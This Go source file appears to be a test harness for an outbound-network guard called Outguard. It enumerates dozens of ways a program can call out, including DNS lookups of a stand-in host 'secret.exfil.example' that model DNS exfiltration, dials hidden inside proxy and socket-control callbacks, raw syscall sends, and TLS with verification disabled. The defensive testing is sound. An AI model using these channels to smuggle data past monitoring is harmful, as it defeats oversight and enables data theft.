// Package ways has ways to call out that are made of little more than the standard library. It
// knows nothing of Outguard. Programs that are built by `outguard go` run them: fn, and that of
// module internal/matrixtest.
package ways

//lint:file-ignore SA1019 http2.Transport is deprecated and used all the same

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/netip"
	"net/url"
	"os"
	"os/exec"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/sns"
	"golang.org/x/net/http2"
	"golang.org/x/net/ipv4"
	"golang.org/x/sys/unix"
)

// A Request says where to a call goes.
type Request struct {
	Way    string // its name in All
	Target string // host:port, or the path of a Unix socket
	Path   string // of an HTTP request
	Times  int    // how often, all at once; default: once
}

// All are the ways to call out. Each sends "hello" or a request to the target.
var All = map[string]func(context.Context, Request) error{
	"http.Get":          func(_ context.Context, r Request) error { return finish(http.Get(r.url("http"))) },
	"http.DefaultClone": get("http", clone()),
	"transport literal": get("http", &http.Transport{}),
	"transport h2":      get("https", &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: insecure()}),
	"x/net/http2": get("http", &http2.Transport{AllowHTTP: true, DialTLSContext: func(ctx context.Context, network, addr string, _ *tls.Config) (net.Conn, error) {
		return new(net.Dialer).DialContext(ctx, network, addr)
	}}),
	"dial in Proxy": dialInProxy,
	"http, every value in the context": func(ctx context.Context, r Request) error {
		return get("http", &http.Transport{})(everything{ctx}, r)
	},
	"net.Dialer, every value in the context": func(ctx context.Context, r Request) error {
		return dial(func(r Request) (net.Conn, error) {
			return new(net.Dialer).DialContext(everything{ctx}, "tcp", r.Target)
		})(ctx, r)
	},
	"http.ClientConn":      clientConn,
	"http through a proxy": throughProxy,
	"aws sdk":              publish,
	"net.Dial":             dial(func(r Request) (net.Conn, error) { return net.Dial("tcp", r.Target) }),
	"net.DialTimeout":      dial(func(r Request) (net.Conn, error) { return net.DialTimeout("tcp", r.Target, time.Second) }),
	"net.DialTCP": dial(func(r Request) (net.Conn, error) {
		return net.DialTCP("tcp", nil, net.TCPAddrFromAddrPort(r.addr()))
	}),
	"Dialer.DialTCP": dial(func(r Request) (net.Conn, error) {
		return new(net.Dialer).DialTCP(context.Background(), "tcp", netip.AddrPort{}, r.addr())
	}),
	"tls.Dial": func(_ context.Context, r Request) error {
		c, err := tls.Dial("tcp", r.Target, insecure())
		if err != nil {
			return err
		}
		defer c.Close()
		if _, err := fmt.Fprintf(c, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", r.Path, r.Target); err != nil {
			return err
		}
		text, err := io.ReadAll(c)
		if err == nil && !strings.HasPrefix(string(text), "HTTP/1.1 200") {
			err = errors.New(string(text))
		}
		return err
	},
	"net.Dial udp": dial(func(r Request) (net.Conn, error) { return net.Dial("udp", r.Target) }),
	"net.DialUDP": dial(func(r Request) (net.Conn, error) {
		return net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(r.addr()))
	}),
	"net.Dial unix": dial(func(r Request) (net.Conn, error) { return net.Dial("unix", r.Target) }),
	"UDPConn.WriteTo": unconnected(func(c *net.UDPConn, r Request) error {
		_, err := c.WriteTo([]byte("hello"), net.UDPAddrFromAddrPort(r.addr()))
		return err
	}),
	"UDPConn.WriteMsgUDP": unconnected(func(c *net.UDPConn, r Request) error {
		_, _, err := c.WriteMsgUDP([]byte("hello"), nil, net.UDPAddrFromAddrPort(r.addr()))
		return err
	}),
	// They send by system calls of their own.
	"x/net/ipv4 WriteTo": unconnected(func(c *net.UDPConn, r Request) error {
		_, err := ipv4.NewPacketConn(c).WriteTo([]byte("hello"), new(ipv4.ControlMessage), net.UDPAddrFromAddrPort(r.addr()))
		return err
	}),
	"x/net/ipv4 WriteBatch": unconnected(func(c *net.UDPConn, r Request) error {
		message := ipv4.Message{Buffers: [][]byte{[]byte("hello")}, Addr: net.UDPAddrFromAddrPort(r.addr())}
		_, err := ipv4.NewPacketConn(c).WriteBatch([]ipv4.Message{message}, 0)
		return err
	}),
	"syscall.Connect": socket(syscall.SOCK_STREAM, func(fd int, r Request) error {
		if err := syscall.Connect(fd, r.syscallAddr()); err != nil {
			return err
		}
		_, err := syscall.Write(fd, []byte("hello"))
		return err
	}),
	"syscall.Sendto": socket(syscall.SOCK_DGRAM, func(fd int, r Request) error {
		return syscall.Sendto(fd, []byte("hello"), 0, r.syscallAddr())
	}),
	"syscall.Sendmsg": socket(syscall.SOCK_DGRAM, func(fd int, r Request) error {
		return syscall.Sendmsg(fd, []byte("hello"), nil, r.syscallAddr(), 0)
	}),
	"unix.Connect": socket(syscall.SOCK_STREAM, func(fd int, r Request) error {
		if err := unix.Connect(fd, r.unixAddr()); err != nil {
			return err
		}
		_, err := unix.Write(fd, []byte("hello"))
		return err
	}),
	"unix.Sendto": socket(syscall.SOCK_DGRAM, func(fd int, r Request) error {
		return unix.Sendto(fd, []byte("hello"), 0, r.unixAddr())
	}),
	"unix.SendmsgN": socket(syscall.SOCK_DGRAM, func(fd int, r Request) error {
		_, err := unix.SendmsgN(fd, []byte("hello"), nil, r.unixAddr(), 0)
		return err
	}),
	"unix.SendmsgBuffers": socket(syscall.SOCK_DGRAM, func(fd int, r Request) error {
		_, err := unix.SendmsgBuffers(fd, [][]byte{[]byte("hello")}, nil, r.unixAddr(), 0)
		return err
	}),
	"os/exec": func(ctx context.Context, _ Request) error {
		return exec.CommandContext(ctx, "/bin/true", "secret").Run()
	},
	"syscall.ForkExec": func(context.Context, Request) error {
		pid, err := syscall.ForkExec("/bin/echo", []string{"echo", "secret"}, nil)
		if err != nil {
			return err
		}
		_, err = syscall.Wait4(pid, nil, 0, nil)
		return err
	},
	// It writes the request into memory, as the SDK does that logs its requests.
	"httputil.DumpRequestOut": func(ctx context.Context, r Request) error {
		req, err := http.NewRequestWithContext(ctx, "GET", r.url("https"), nil)
		if err != nil {
			return err
		}
		_, err = httputil.DumpRequestOut(req, true)
		return err
	},
	// The name is what leaves the process, by the name servers of the system.
	"a resolver's question": func(ctx context.Context, _ Request) error {
		_, err := new(net.Resolver).LookupTXT(ctx, "secret.exfil.example")
		return err
	},
	"a resolver's question, without a context": func(context.Context, Request) error {
		_, err := (&net.Resolver{Dial: new(net.Dialer).DialContext}).LookupHost(context.Background(), "secret.exfil.example")
		return err
	},
	// As database drivers do it.
	"lookup, then dial": func(ctx context.Context, r Request) error {
		if _, err := net.DefaultResolver.LookupHost(ctx, "localhost"); err != nil {
			return err
		}
		return dial(func(r Request) (net.Conn, error) { return net.Dial("tcp", r.Target) })(ctx, r)
	},
	// The target is asked as if it were a name server.
	"another name server": func(ctx context.Context, r Request) error {
		resolver := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "udp", r.Target)
		}}
		_, err := resolver.LookupHost(ctx, "secret.exfil.example")
		return err
	},
	"dial in ControlContext": dialInControl,
	// Two requests on one connection.
	"pooled h2": func(ctx context.Context, r Request) error {
		for _, path := range []string{"/a", "/b"} {
			if err := get("https", pool)(ctx, Request{Target: r.Target, Path: path}); err != nil {
				return err
			}
		}
		return nil
	},
	"runtime api": func(ctx context.Context, r Request) error {
		r.Target = os.Getenv("AWS_LAMBDA_RUNTIME_API")
		return get("http", &http.Transport{})(ctx, r)
	},
	"net.Interfaces": func(context.Context, Request) error {
		_, err := net.Interfaces() // asks the kernel by a netlink socket
		return err
	},
}

var pool = &http.Transport{ForceAttemptHTTP2: true, TLSClientConfig: insecure()}

// insecure is for recorders, whose certificate is their own. Transports change the configuration
// that they get.
func insecure() *tls.Config { return &tls.Config{InsecureSkipVerify: true} }

func (r Request) url(scheme string) string { return scheme + "://" + r.Target + r.Path }

func (r Request) addr() netip.AddrPort { return netip.MustParseAddrPort(r.Target) }

func (r Request) syscallAddr() *syscall.SockaddrInet4 {
	return &syscall.SockaddrInet4{Addr: r.addr().Addr().As4(), Port: int(r.addr().Port())}
}

func (r Request) unixAddr() *unix.SockaddrInet4 {
	return &unix.SockaddrInet4{Addr: r.addr().Addr().As4(), Port: int(r.addr().Port())}
}

// clone is made on first use, because a clone is a copy of what http.DefaultTransport is then.
func clone() http.RoundTripper {
	return roundTripFunc(sync.OnceValue(func() http.RoundTripper {
		t := http.DefaultTransport.(*http.Transport).Clone()
		t.Proxy = nil
		return t
	}))
}

type roundTripFunc func() http.RoundTripper

func (f roundTripFunc) RoundTrip(r *http.Request) (*http.Response, error) { return f().RoundTrip(r) }

// everything is a context that has a value for each key, and so for those of marks too.
type everything struct{ context.Context }

func (everything) Value(any) any { return true }

func get(scheme string, t http.RoundTripper) func(context.Context, Request) error {
	return func(ctx context.Context, r Request) error {
		req, err := http.NewRequestWithContext(ctx, "GET", r.url(scheme), nil)
		if err != nil {
			return err
		}
		return finish((&http.Client{Transport: t}).Do(req))
	}
}

func finish(resp *http.Response, err error) error {
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return err
}

func clientConn(ctx context.Context, r Request) error {
	cc, err := new(http.Transport).NewClientConn(ctx, "http", r.Target)
	if err != nil {
		return err
	}
	defer cc.Close()
	req, err := http.NewRequestWithContext(ctx, "GET", r.url("http"), nil)
	if err != nil {
		return err
	}
	return finish(cc.RoundTrip(req))
}

// throughProxy asks the target, as a proxy, for a name that nobody has.
func throughProxy(ctx context.Context, r Request) error {
	proxy := &url.URL{Scheme: "http", Host: r.Target}
	return get("http", &http.Transport{Proxy: http.ProxyURL(proxy)})(ctx, Request{Target: "allowed.example", Path: r.Path})
}

var client = sync.OnceValue(func() *sns.Client {
	return sns.New(sns.Options{Region: "eu-west-1", Credentials: aws.CredentialsProviderFunc(func(context.Context) (aws.Credentials, error) {
		return aws.Credentials{AccessKeyID: "ASIARTX3GSDSQAABCDEF", SecretAccessKey: "s"}, nil
	})})
})

func publish(ctx context.Context, r Request) error {
	_, err := client().Publish(ctx, &sns.PublishInput{Message: aws.String("m"), TopicArn: aws.String("arn:aws:sns:eu-west-1:111122223333:t")},
		func(o *sns.Options) { o.BaseEndpoint = aws.String(r.url("http")) })
	return err
}

// dialInControl dials where a Dialer asks about the socket of another dial, with the context that
// it gives. The other dial is of an address that is never connected to.
func dialInControl(ctx context.Context, r Request) (err error) {
	ended := errors.New("ended")
	d := net.Dialer{ControlContext: func(ctx context.Context, _, _ string, _ syscall.RawConn) error {
		var conn net.Conn
		if conn, err = new(net.Dialer).DialTCP(ctx, "tcp", netip.AddrPort{}, r.addr()); err == nil {
			_, err = io.WriteString(conn, "hello")
			_ = conn.Close()
		}
		return ended
	}}
	if _, other := d.DialContext(ctx, "tcp", "192.0.2.1:1"); !errors.Is(other, ended) {
		return other
	}
	return err
}

// dialInProxy dials in a transport's Proxy function, with the context that it gets there, where the
// request is about to go. That the request is allowed, or not judged yet, says nothing of the dial.
func dialInProxy(_ context.Context, r Request) error {
	dialed := errors.New("dialed")
	proxy := func(q *http.Request) (*url.URL, error) {
		conn, err := new(net.Dialer).DialContext(q.Context(), "tcp", r.Target)
		if err != nil {
			return nil, err
		}
		defer conn.Close()
		if _, err = io.WriteString(conn, "hello"); err != nil {
			return nil, err
		}
		return nil, dialed
	}
	err := get("http", &http.Transport{Proxy: proxy})(context.Background(), r)
	if errors.Is(err, dialed) {
		return nil
	}
	return err
}

func dial(f func(Request) (net.Conn, error)) func(context.Context, Request) error {
	return func(_ context.Context, r Request) error {
		c, err := f(r)
		if err != nil {
			return err
		}
		defer c.Close()
		_, err = io.WriteString(c, "hello")
		return err
	}
}

func unconnected(send func(*net.UDPConn, Request) error) func(context.Context, Request) error {
	return func(_ context.Context, r Request) error {
		c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
		if err != nil {
			return err
		}
		defer c.Close()
		return send(c, r)
	}
}

func socket(kind int, send func(int, Request) error) func(context.Context, Request) error {
	return func(_ context.Context, r Request) error {
		fd, err := syscall.Socket(syscall.AF_INET, kind, 0)
		if err != nil {
			return errors.Join(errors.New("socket "+strconv.Itoa(kind)), err)
		}
		defer syscall.Close(fd)
		return send(fd, r)
	}
}
